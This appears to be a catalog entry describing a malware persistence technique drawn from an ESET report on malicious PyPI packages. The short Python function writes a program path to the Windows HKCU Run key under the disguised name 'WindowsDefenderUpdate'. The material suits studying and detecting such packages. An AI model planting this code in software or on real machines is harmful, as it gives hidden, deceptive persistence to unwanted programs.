# technique: HKCU Run key via winreg
# class: persistence
# source: ESET, 116 malicious PyPI packages (2023): Windows persistence through Run keys
# declares:
import winreg


def autostart(path):
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "WindowsDefenderUpdate", 0, winreg.REG_SZ, path)
